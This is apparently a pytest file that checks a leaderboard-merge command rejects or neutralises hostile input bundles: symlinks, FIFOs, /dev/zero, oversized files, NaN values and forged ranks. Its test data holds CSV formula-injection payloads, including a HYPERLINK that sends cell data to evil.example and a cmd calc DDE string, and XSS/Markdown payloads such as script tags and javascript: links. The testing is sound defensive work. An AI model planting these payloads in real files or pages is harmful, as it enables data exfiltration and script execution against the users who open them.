"""`tda leaderboard --merge` of bundles made elsewhere, written to hurt: links out of the folder, a link to
/dev/zero, a FIFO, an oversized file, spreadsheet formulas, Markdown injection, NaN values and replicates
that contradict their value. Each is refused in one line (exit 2, no traceback) or rendered inert."""
from __future__ import annotations

import json
import math
import os
import re
import subprocess
import sys
import textwrap
import threading

import numpy as np
import pandas as pd
import pytest

from test_bundles import _bundle, _leaderboard, _one_error_line, _write

from tda_core import io

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links, FIFOs and /dev/zero are POSIX")


def _merge_in_subprocess(folder, out, timeout: float = 60.0) -> subprocess.CompletedProcess:
    """The CLI in its own process, under a timeout and a memory limit (a hang or an unbounded read fails
    the test instead of the test run)."""
    code = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30, 4 * 2**30))
        from tda_core.cli import main
        sys.exit(main(["leaderboard", "--merge", {str(folder)!r}, "--out-dir", {str(out)!r},
                       "--tracking", '{{"mode": "none"}}']))
    """)
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})


# -- the files of a merged folder ----------------------------------------------------------------------
def test_a_bundle_linked_to_dev_zero_is_refused_in_one_line(tmp_path):
    _write(tmp_path / "a", _bundle("good", {"m1": 0.3}))
    (tmp_path / "a" / "e").mkdir()
    os.symlink("/dev/zero", tmp_path / "a" / "e" / "metrics.json")
    r = _merge_in_subprocess(tmp_path / "a", tmp_path / "lb")
    line = _one_error_line(r.stderr)
    assert r.returncode == 2 and str(tmp_path / "a" / "e" / "metrics.json") in line and "symbolic link" in line
    assert not (tmp_path / "lb").exists()


def _without_blocking_on(fifo, fn, timeout: float = 20.0):
    """fn() in a thread; if it is still blocked after `timeout` (an open of the FIFO waits for a writer),
    unblock it (open and close the writing end: the reader sees an empty file) and fail the test."""
    result = {}

    def run():
        try:
            result["value"] = fn()
        except BaseException as e:  # handed to the test's thread
            result["error"] = e

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(timeout=timeout)
    if worker.is_alive():
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(timeout=timeout)
        pytest.fail(f"blocked on the FIFO {fifo}")
    if "error" in result:
        raise result["error"]
    return result["value"]


def test_a_fifo_named_metrics_json_is_refused_without_blocking(tmp_path, capsys):
    _write(tmp_path / "a", _bundle("good", {"m1": 0.3}))
    (tmp_path / "a" / "e").mkdir()
    fifo = tmp_path / "a" / "e" / "metrics.json"
    os.mkfifo(fifo)  # nobody writes to it: opening it for reading blocks forever
    rc, err = _without_blocking_on(fifo, lambda: _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb"))
    assert rc == 2 and "metrics.json is a FIFO, not a regular file" in _one_error_line(err)


def test_the_bounded_reader_opens_no_fifo_and_reads_no_device(tmp_path):
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    with pytest.raises(io.ArtifactError, match="is a FIFO"):
        _without_blocking_on(fifo, lambda: io.read_json(fifo))
    with pytest.raises(io.ArtifactError, match="is a character device"):
        io.read_bounded("/dev/zero")  # followed on purpose: still no regular file


def test_an_oversized_bundle_is_refused_unread(tmp_path, capsys):
    path = _write(tmp_path / "a", _bundle("e", {"m1": 0.3}))
    with open(path, "r+b") as f:  # sparse: 400 MB claimed, a few KB on disk
        f.truncate(400 * 10**6)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    line = _one_error_line(err)
    assert rc == 2 and str(path) in line and "381.5 MiB" in line and "64 MiB" in line


def test_the_size_cap_holds_for_a_file_that_grows_past_its_stat(tmp_path, monkeypatch):
    path = tmp_path / "x.json"
    path.write_text(json.dumps({"a": "b" * 5000}))
    with pytest.raises(io.ArtifactError, match="MiB, more than the"):
        io.read_bounded(path, limit=1024)
    real_fstat = os.fstat
    monkeypatch.setattr(io.os, "fstat", lambda fd: os.stat_result((*real_fstat(fd)[:6], 10, *real_fstat(fd)[7:])))
    monkeypatch.setattr(io.os, "stat", lambda p, **k: os.stat_result((*os.lstat(p)[:6], 10, *os.lstat(p)[7:])))
    with pytest.raises(io.ArtifactError, match="grew beyond"):  # the size it claims is not trusted
        io.read_bounded(path, limit=1024)


@pytest.mark.parametrize("link", ["file", "folder", "inner folder"])
def test_a_link_out_of_the_merged_folder_is_refused(tmp_path, capsys, link):
    outside = tmp_path / "outside"
    secret = _write(outside, _bundle("e", {"m1": 0.3}))  # a valid bundle elsewhere: following the link "works"
    folder = tmp_path / "a"
    _write(folder, _bundle("good", {"m1": 0.3}))
    if link == "file":
        (folder / "e").mkdir()
        os.symlink(secret, folder / "e" / "metrics.json")
        named = folder / "e" / "metrics.json"
    elif link == "folder":
        os.symlink(outside / "e", folder / "e")
        named = folder / "e"
    else:  # e/loo -> outside/e (which holds loo/results.json)
        io.write_json(outside / "e" / "loo" / "results.json", _bundle("e", {"m9": 0.3}))
        (folder / "e").mkdir()
        os.symlink(outside / "e" / "loo", folder / "e" / "loo")
        named = folder / "e" / "loo"
    rc, err = _leaderboard(capsys, folder, out=tmp_path / "lb")
    line = _one_error_line(err)
    assert rc == 2 and f"{named} is a symbolic link" in line


# -- what bundles say ------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1"]


def test_formula_cells_of_the_csv_are_neutralised_and_numbers_stay_numbers(tmp_path, capsys):
    bundle = _bundle("e", {"m1": 0.3, "m2": 0.5, "m3": 0.4, "m4": 0.2, "m5": 0.6, "m6": 0.1})
    for row, formula in zip(bundle["results"], FORMULAS):
        row["note"] = formula
    bundle["results"][0]["variant"] = "-1-2 (x)"  # the schema lets a variant start with '-'
    bundle["results"][1]["aliases"] = "=1+1"
    _write(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    assert rc == 0, err
    raw = pd.read_csv(tmp_path / "lb" / "leaderboard.csv", dtype=str, keep_default_na=False)
    text_cells = [v for column in raw.columns for v in raw[column]]
    assert not [v for v in text_cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", v)]  # a negative number is a number
    df = pd.read_csv(tmp_path / "lb" / "leaderboard.csv").set_index("method")
    assert {df.loc[m, "note"] for m in df.index} == {"'" + f.replace("\r", "\n") for f in FORMULAS}
    assert df.loc["m1", "variant"] == "'-1-2 (x)" and df.loc["m2", "aliases"] == "'=1+1"
    assert df["value"].dtype == float and df.loc["m5", "value"] == 0.6 and df.loc["m5", "rank"] == 1


MD_ATTACKS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a | b | c", "line\nbreak\r\nhere",
              "[click](javascript:alert(1))", "![x](http://evil.example/x.png)", "`code` \\| still one cell",
              "<javascript:alert(1)>", "&lt;script&gt;"]


def _cells(line: str) -> list[str]:
    """The cells of a Markdown table row: split at pipes not escaped by a backslash."""
    return re.split(r"(?<!\\)\|", line.strip())[1:-1]


def test_markdown_injection_is_escaped_in_every_text_cell(tmp_path, capsys):
    values = {f"m{i}": 0.1 + 0.05 * i for i in range(len(MD_ATTACKS))}
    bundle = _bundle("e", values)
    for row, attack in zip(bundle["results"], MD_ATTACKS):
        row["note"] = attack
    bundle["scenario"] = MD_ATTACKS[0]
    bundle["power"] = {"note": MD_ATTACKS[4]}
    bundle["noise"]["lds"]["target_note"] = "ceiling " + MD_ATTACKS[1] + " " + MD_ATTACKS[4]  # a line of text
    _write(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    assert rc == 0, err
    md = (tmp_path / "lb" / "leaderboard.md").read_text()
    assert not re.search(r"<(script|img|javascript)", md, flags=re.I)  # no tag, no autolink
    assert not re.search(r"(?<!\\)\]\(", md)  # no inline link or image
    assert not re.search(r"(?i)javascript\s*:", md)
    table = md.split("### lds on e\n")[1].split("\n\n")[1].splitlines()
    widths = {len(_cells(line)) for line in table}
    assert len(table) == 2 + len(MD_ATTACKS) and widths == {len(_cells(table[0]))}  # no row broken or added
    notes = [_cells(line)[-1].strip() for line in table[2:]]
    assert "&lt;script>alert(1)&lt;/script>" in notes and "line break  here" in notes
    assert "a \\| b \\| c" in notes and "[click\\](javascript&#58;alert(1))" in notes
    assert "\\`code\\` \\\\\\| still one cell" in notes and "&amp;lt;script&amp;gt;" in notes
    assert "0.450 [" in md  # the board's own numbers are left as they are


# -- numbers -----------------------------------------------------------------------------------------------
def _write_raw(folder, bundle) -> "os.PathLike":
    path = folder / bundle["experiment"] / "metrics.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(bundle))  # allow_nan: NaN / Infinity tokens, as Python's json writes them
    return path


@pytest.mark.parametrize("field, bad", [("value", math.nan), ("value", math.inf), ("ci_high", -math.inf),
                                        ("replicates", math.inf)])
def test_a_non_finite_ranked_value_is_refused_naming_file_and_row(tmp_path, capsys, field, bad):
    bundle = _bundle("e", {"m1": 0.3, "m2": 0.5})
    row = bundle["results"][1]  # m2: ranked 1
    if field == "replicates":
        row["replicates"][7] = bad
    else:
        row[field] = bad
    path = _write_raw(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    line = _one_error_line(err)
    assert rc == 2 and f"{path}: row 1 (e/lds/m2 (per-seed))" in line
    assert ("NaN" in line and "ranked" in line) if bad is math.nan else ("inf" in line)
    assert not (tmp_path / "lb" / "leaderboard.csv").exists()


def test_an_unranked_nan_value_is_an_na_row_as_the_evaluate_stage_writes_it(tmp_path, capsys):
    bundle = _bundle("e", {"m1": 0.3, "m2": 0.5})
    row = bundle["results"][1]
    row.update(value=math.nan, ci_low=math.nan, ci_high=math.nan, replicates=[math.nan] * 200, rank=None,
               rank_ci_low=None, rank_ci_high=None, tied_with_best=None)
    _write_raw(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    assert rc == 0, err
    df = pd.read_csv(tmp_path / "lb" / "leaderboard.csv").set_index("method")
    assert np.isnan(df.loc["m2", "value"]) and np.isnan(df.loc["m2", "rank"]) and df.loc["m1", "rank"] == 1


@pytest.mark.parametrize("lie", ["value", "ci", "replicates"])
def test_replicates_that_contradict_the_value_are_refused(tmp_path, capsys, lie):
    bundle = _bundle("e", {"m1": 0.3, "m2": 0.5})
    row = bundle["results"][0]  # m1, 0.3: claims to be the best
    if lie == "value":
        row["value"] = 0.9  # replicates still around 0.3
    elif lie == "ci":
        row["ci_low"], row["ci_high"] = 0.85, 0.95
    else:  # replicates of another row under this row's value and CI
        row["replicates"] = [x + 0.6 for x in row["replicates"]]
    path = _write(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    line = _one_error_line(err)
    assert rc == 2 and f"{path}: row 0 (e/lds/m1 (per-seed))" in line and "contradict" in line


def test_ranks_a_bundle_claims_are_recomputed_on_merge(tmp_path, capsys):
    bundle = _bundle("e", {"m1": 0.3, "m2": 0.5})
    worse, better = bundle["results"]
    worse.update(rank=1, rank_ci_low=1, rank_ci_high=1, tied_with_best=True)
    better.update(rank=2, rank_ci_low=2, rank_ci_high=2, tied_with_best=False)
    _write(tmp_path / "a", bundle)
    rc, err = _leaderboard(capsys, tmp_path / "a", out=tmp_path / "lb")
    assert rc == 0, err
    df = pd.read_csv(tmp_path / "lb" / "leaderboard.csv").set_index("method")
    assert df.loc["m2", "rank"] == 1 and df.loc["m1", "rank"] == 2


def test_rows_the_metrics_write_pass_the_number_checks(tmp_path):
    """No false alarm: rows made by the metrics' own bootstraps (LDS with its crossed-design shrink, the
    mislabel AUC, top-k drop, brittleness, LOO), written and read back, pass."""
    from tda_core.bundle import check_row_numbers
    from tda_core.metrics.groundtruth import LooTruth
    from tda_core.metrics.loo import evaluate_loo
    from tda_core.metrics.mislabel import auc_bootstrap
    from tda_core.metrics.stats import estimate, lds_bootstrap
    from tda_core.removal import brittleness, mean_drop
    from tda_core.scores import Scores

    rng = np.random.default_rng(0)
    target = rng.normal(size=(30, 8))
    results = {
        "lds": estimate(lds_bootstrap(target[None] + rng.normal(size=(2, 30, 8)), target)),
        "lds_noise": estimate(lds_bootstrap(rng.normal(size=(2, 30, 8)), target)),
        "auc": auc_bootstrap(rng.random(60) < 0.2, rng.normal(size=60)),
        "drop": mean_drop(rng.normal(1.0, 1.0, size=(3, 10)), rng.normal(size=(3, 10))),
        "brittle": brittleness(rng.normal(1.0, 1.0, size=(3, 10)),
                               {k: rng.normal(1.0 - k / 4, 1.0, size=(3, 10)) for k in (1, 2, 4, 8)}),
        "loo": evaluate_loo(Scores.from_arrays([rng.normal(size=(6, 40))]),
                            LooTruth(points=np.arange(4), full=rng.normal(size=(5, 6)), loo=rng.normal(size=(4, 5, 6)))),
    }
    io.write_json(tmp_path / "rows.json", {k: {**v, "status": "ok"} for k, v in results.items()})
    for name, row in io.read_json(tmp_path / "rows.json").items():
        check_row_numbers(row, name)
